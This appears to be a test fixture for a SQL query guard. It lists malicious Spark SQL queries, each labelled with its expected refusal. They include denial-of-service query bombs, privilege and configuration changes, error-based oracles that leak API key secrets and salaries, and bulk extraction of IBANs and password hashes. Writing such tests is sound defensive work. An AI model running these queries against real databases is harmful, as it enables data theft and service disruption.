1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1

-- refuse: invalid_sql
SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT (SELECT 1))))))))))))))))))))))))))))))))))))))))))))))))))

-- refuse: invalid_sql
WITH c0 AS (SELECT * FROM orders), c1 AS (SELECT * FROM c0 a, c0 b), c2 AS (SELECT * FROM c1 a, c1 b), c3 AS (SELECT * FROM c2 a, c2 b), c4 AS (SELECT * FROM c3 a, c3 b), c5 AS (SELECT * FROM c4 a, c4 b), c6 AS (SELECT * FROM c5 a, c5 b), c7 AS (SELECT * FROM c6 a, c6 b), c8 AS (SELECT * FROM c7 a, c7 b), c9 AS (SELECT * FROM c8 a, c8 b), c10 AS (SELECT * FROM c9 a, c9 b), c11 AS (SELECT * FROM c10 a, c10 b), c12 AS (SELECT * FROM c11 a, c11 b), c13 AS (SELECT * FROM c12 a, c12 b), c14 AS (SELECT * FROM c13 a, c13 b), c15 AS (SELECT * FROM c14 a, c14 b), c16 AS (SELECT * FROM c15 a, c15 b), c17 AS (SELECT * FROM c16 a, c16 b), c18 AS (SELECT * FROM c17 a, c17 b), c19 AS (SELECT * FROM c18 a, c18 b), c20 AS (SELECT * FROM c19 a, c19 b), c21 AS (SELECT * FROM c20 a, c20 b), c22 AS (SELECT * FROM c21 a, c21 b), c23 AS (SELECT * FROM c22 a, c22 b), c24 AS (SELECT * FROM c23 a, c23 b), c25 AS (SELECT * FROM c24 a, c24 b), c26 AS (SELECT * FROM c25 a, c25 b), c27 AS (SELECT * FROM c26 a, c26 b), c28 AS (SELECT * FROM c27 a, c27 b), c29 AS (SELECT * FROM c28 a, c28 b) SELECT count(*) FROM c29


-- class: configuration

-- refuse: policy_refused
SET spark.sql.ansi.enabled = false

-- refuse: policy_refused
SET -v

-- refuse: policy_refused
SET spark.hadoop.fs.s3a.access.key

-- refuse: policy_refused
SET hivevar:x = 1

-- refuse: policy_refused
SET TIME ZONE 'UTC'

-- refuse: policy_refused
SET CATALOG evil

-- refuse: policy_refused
SET spark.sql.reflect.allowList = ''

-- refuse: policy_refused
SET ROLE admin

-- refuse: policy_refused
RESET

-- refuse: policy_refused
RESET spark.sql.shuffle.partitions

-- refuse: policy_refused
USE hr

-- refuse: policy_refused
USE CATALOG spark_catalog

-- refuse: policy_refused
USE DATABASE admin

-- refuse: policy_refused
GRANT SELECT ON TABLE hr.salaries TO `me`

-- refuse: policy_refused
REVOKE ALL PRIVILEGES ON orders FROM `x`

-- refuse: policy_refused
DENY SELECT ON orders TO x

-- refuse: policy_refused
ALTER SYSTEM RESTART

-- refuse: policy_refused
KILL QUERY 1

-- refuse: policy_refused
SELECT set_config('a', 'b')

-- refuse: policy_refused
SELECT current_setting('spark.master')


-- class: oracles

-- refuse: policy_refused
SELECT raise_error(name) FROM customers

-- refuse: policy_refused
SELECT CASE WHEN (SELECT max(salary) FROM hr.salaries) > 90000 THEN raise_error('yes') END

-- refuse: policy_refused
SELECT assert_true((SELECT count(*) FROM hr.salaries) > 1, 'CANARY')

-- refuse: policy_refused
SELECT CAST((SELECT first(iban) FROM hr.salaries) AS INT)

-- refuse: policy_refused
SELECT 1 / (SELECT count(*) FROM admin.users WHERE login = 'root')

-- refuse: policy_refused
SELECT element_at(array(1), (SELECT CAST(max(salary) AS INT) FROM hr.salaries))

-- refuse: policy_refused
SELECT to_date((SELECT max(secret) FROM admin.api_keys), 'yyyy')

-- refuse: policy_refused
SELECT IF((SELECT max(is_admin) FROM admin.users), repeat('x', 1000000000), '')

-- refuse: policy_refused
SELECT try_cast((SELECT max(secret) FROM admin.api_keys) AS INT)

-- refuse: policy_refused
SELECT aes_decrypt(unhex('00'), (SELECT max(secret) FROM admin.api_keys))


-- class: bulk-disclosure

-- refuse: policy_refused
SELECT collect_list(struct(*)) FROM hr.salaries

-- refuse: policy_refused
SELECT to_json(collect_set(secret)) FROM admin.api_keys

-- refuse: policy_refused
SELECT string_agg(iban, ',') FROM hr.salaries

-- refuse: policy_refused
SELECT min(salary), max(salary) FROM hr.salaries GROUP BY name

-- refuse: policy_refused
SELECT grade, count(*) FROM hr.reviews GROUP BY grade

-- refuse: policy_refused
SELECT c.name, s.iban FROM customers c CROSS JOIN hr.salaries s

-- refuse: policy_refused
SELECT first_value(password_hash) OVER (ORDER BY login) FROM admin.users

-- refuse: policy_refused
SELECT DISTINCT login FROM admin.users

-- refuse: policy_refused
SELECT max_by(iban, salary) FROM hr.salaries
